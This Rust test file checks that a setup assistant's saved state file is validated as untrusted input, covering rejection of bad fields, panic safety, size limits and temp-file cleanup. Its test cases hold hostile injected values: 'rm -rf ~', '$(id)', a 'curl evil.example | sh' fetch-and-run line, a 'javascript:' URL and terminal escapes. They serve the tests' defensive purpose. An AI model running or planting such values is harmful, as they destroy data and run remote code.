//! The state file is read as untrusted input: anything in it that the
//! window would not have accepted sets the file aside (as a damaged file),
//! nothing in it can panic the assistant, its size is bounded, and the
//! temporary files of a crashed save do not pile up.

use std::fs;
use std::path::Path;
use std::time::{Duration, SystemTime};

use c1_setup_core::endpoints::{Overrides, Page};
use c1_setup_core::progress::{LoadOutcome, StateStore, STATE_FILE_NAME};
use c1_setup_core::setup::Setup;
use serde_json::{json, Value};

/// A file as the assistant writes it, with every field set.
fn good() -> Value {
    json!({
        "format_version": 1,
        "current_step": "access",
        "domain": "acmeco",
        "display_name": "Acme Co",
        "region": "eu",
        "loopback_port": 41000,
        "checklist": ["create_app"],
        "client_id": "0a1b2c3d-4e5f-6789-abcd-ef0123456789",
        "verification": {
            "at": "2026-11-28T10:01:00Z",
            "issuer": "https://oauth.id.eu.jumpcloud.com/",
            "client_id": "0a1b2c3d-4e5f-6789-abcd-ef0123456789",
            "outcome": {"result": "passed", "email": "admin@acme.example", "checks": []}
        },
        "invite_code_stored": true,
        "client_secret_stored": true,
        "signup": {
            "opened_at": "2026-11-28T10:02:00Z",
            "setup_page_seen_at": "2026-11-28T10:03:00Z",
            "submitted_at": "2026-11-28T10:04:00Z",
            "instance_live_at": "2026-11-28T10:05:00Z"
        },
        "access_checklist": ["pick_group"],
        "welcome_seen_at": "2026-11-28T10:00:00Z",
        "finished_at": "2026-11-28T10:06:00Z",
        "updated_at": "2026-11-28T10:06:00+02:00"
    })
}

/// `good()` with the value at `pointer` (a JSON pointer) replaced.
fn with(pointer: &str, value: Value) -> Value {
    let mut file = good();
    *file.pointer_mut(pointer).expect(pointer) = value;
    file
}

fn write(dir: &Path, file: &Value) -> StateStore {
    let store = StateStore::new(dir.to_path_buf());
    fs::write(store.path(), serde_json::to_vec(file).expect("JSON")).expect("write");
    store
}

#[test]
fn a_file_the_window_could_have_written_is_resumed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let store = write(dir.path(), &good());
    let LoadOutcome::Resumed { state } = store.load() else {
        panic!("the good file must be resumed");
    };
    assert_eq!(state.domain, "acmeco");
    // Times are kept in UTC from here on.
    assert_eq!(state.updated_at.offset(), time::UtcOffset::UTC);
    assert_eq!(state.updated_at.hour(), 8);
    // An older file without the optional values is still fine.
    let dir = tempfile::tempdir().expect("temp dir");
    let store = write(
        dir.path(),
        &json!({"format_version": 1, "domain": "", "client_id": null}),
    );
    assert!(matches!(store.load(), LoadOutcome::Resumed { .. }));
}

#[test]
fn the_domain_from_the_file_never_becomes_another_address() {
    let dir = tempfile::tempdir().expect("temp dir");
    let store = write(dir.path(), &with("/domain", json!("evil.example/x?")));
    let (setup, notice) = Setup::open(store, Overrides::default());
    let notice = notice.expect("the admin is told");
    assert!(notice.contains("was damaged"), "{notice}");
    assert!(
        notice.contains("state.json.corrupt-"),
        "kept aside: {notice}"
    );
    assert_eq!(setup.state().domain, "");
    let page = setup.page_url(Page::Instance);
    assert!(page.is_err(), "{page:?}");
}

#[test]
fn every_field_the_window_checks_is_checked_again_on_load() {
    let far_future = json!("9999-12-31T23:59:59-23:59");
    let cases: Vec<(&str, Value)> = vec![
        ("/domain", json!("evil.example/x?")),
        ("/domain", json!("AcmeCo")),
        ("/domain", json!(" acmeco")),
        ("/domain", json!("-acmeco")),
        ("/domain", json!("a".repeat(64))),
        ("/display_name", json!("Acme\u{1b}[2J Co")),
        ("/display_name", json!("Acme\nCo")),
        ("/display_name", json!("x".repeat(101))),
        ("/display_name", json!(" Acme Co")),
        ("/loopback_port", json!(80)),
        ("/loopback_port", json!(0)),
        ("/client_id", json!("abc; rm -rf ~")),
        ("/client_id", json!("$(id)")),
        ("/client_id", json!("abc def")),
        ("/client_id", json!("")),
        (
            "/verification/client_id",
            json!("'; curl evil.example | sh; '"),
        ),
        ("/verification/issuer", json!("http://evil.example/")),
        ("/verification/issuer", json!("javascript:alert(1)")),
        ("/verification/at", far_future.clone()),
        ("/signup/opened_at", far_future.clone()),
        ("/signup/setup_page_seen_at", far_future.clone()),
        ("/signup/submitted_at", far_future.clone()),
        ("/signup/instance_live_at", far_future.clone()),
        ("/welcome_seen_at", far_future.clone()),
        ("/finished_at", far_future.clone()),
        ("/updated_at", far_future),
        ("/updated_at", json!("0000-01-01T00:00:00+23:59")),
    ];
    for (pointer, value) in cases {
        let dir = tempfile::tempdir().expect("temp dir");
        let store = write(dir.path(), &with(pointer, value.clone()));
        let (setup, notice) = Setup::open(store, Overrides::default());
        let Some(notice) = notice else {
            panic!("{pointer} = {value} was accepted");
        };
        assert!(notice.contains("was damaged"), "{pointer}: {notice}");
        assert_eq!(setup.state().domain, "", "{pointer}");
        // The fresh start still makes a report.
        setup.report().expect("a report");
    }
}

/// Whatever the file holds, loading it and making the report does not
/// panic (release builds abort on a panic, taking the window with them).
#[test]
fn extreme_values_cannot_panic_the_load_or_the_report() {
    let mut cases: Vec<(&str, Value)> = Vec::new();
    for at in [
        "9999-12-31T23:59:59-23:59",
        "9999-12-31T23:59:59+23:59",
        "0000-01-01T00:00:00+23:59",
        "0000-01-01T00:00:00-23:59",
        "2099-12-31T23:59:59Z",
        "1970-01-01T00:00:00Z",
    ] {
        for pointer in [
            "/verification/at",
            "/signup/opened_at",
            "/signup/instance_live_at",
            "/finished_at",
            "/updated_at",
        ] {
            cases.push((pointer, json!(at)));
        }
    }
    cases.push(("/loopback_port", json!(65535)));
    cases.push(("/loopback_port", json!(1024)));
    cases.push(("/display_name", json!("é".repeat(100))));
    cases.push(("/client_id", json!("a".repeat(2000))));
    cases.push(("/verification/outcome/email", json!("\u{1b}]0;owned\u{7}")));
    for (pointer, value) in cases {
        let dir = tempfile::tempdir().expect("temp dir");
        let store = write(dir.path(), &with(pointer, value.clone()));
        let (setup, _) = Setup::open(store, Overrides::default());
        let report = setup.report().expect("a report");
        assert!(!report.markdown.contains('\u{1b}'), "{pointer} = {value}");
    }
}

#[test]
fn an_oversized_file_is_set_aside_unread() {
    let dir = tempfile::tempdir().expect("temp dir");
    let store = StateStore::new(dir.path().to_path_buf());
    // Valid JSON, padded past the limit with spaces.
    let mut bytes = serde_json::to_vec(&good()).expect("JSON");
    bytes.resize(1024 * 1024 + 1, b' ');
    fs::write(store.path(), &bytes).expect("write");
    let LoadOutcome::Reset { moved_to, reason } = store.load() else {
        panic!("an oversized file must be set aside");
    };
    assert!(reason.contains("too large"), "{reason}");
    let moved_to = moved_to.expect("kept");
    assert_eq!(
        fs::metadata(&moved_to).expect("kept").len(),
        bytes.len() as u64
    );
    assert!(!store.path().exists());

    // Just under the limit is read as usual.
    bytes.truncate(1024 * 1024);
    fs::write(store.path(), &bytes).expect("write");
    assert!(matches!(store.load(), LoadOutcome::Resumed { .. }));
}

#[test]
fn temporary_files_left_by_a_crashed_save_are_removed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let store = write(dir.path(), &good());
    let an_hour_ago = SystemTime::now() - Duration::from_secs(3600);
    for name in [".state-a1B2c3.tmp", ".state-zzzzzz.tmp"] {
        let file = fs::File::create(dir.path().join(name)).expect("create");
        file.set_modified(an_hour_ago).expect("mtime");
    }
    // One just being written by another process (the terminal command) is
    // left alone, and so are files the assistant does not own.
    fs::write(dir.path().join(".state-now123.tmp"), b"{").expect("create");
    fs::write(dir.path().join("notes.tmp"), b"mine").expect("create");
    fs::write(dir.path().join(".state-keep"), b"mine").expect("create");

    assert!(matches!(store.load(), LoadOutcome::Resumed { .. }));
    let left: Vec<_> = [
        ".state-a1B2c3.tmp",
        ".state-zzzzzz.tmp",
        ".state-now123.tmp",
    ]
    .into_iter()
    .chain(["notes.tmp", ".state-keep", STATE_FILE_NAME])
    .filter(|name| dir.path().join(name).exists())
    .collect();
    assert_eq!(
        left,
        [
            ".state-now123.tmp",
            "notes.tmp",
            ".state-keep",
            STATE_FILE_NAME
        ]
    );

    // With no state file at all (the crash hit the first save) too.
    fs::remove_file(store.path()).expect("remove");
    let file = fs::File::create(dir.path().join(".state-first.tmp")).expect("create");
    file.set_modified(an_hour_ago).expect("mtime");
    assert_eq!(store.load(), LoadOutcome::Fresh);
    assert!(!dir.path().join(".state-first.tmp").exists());
}
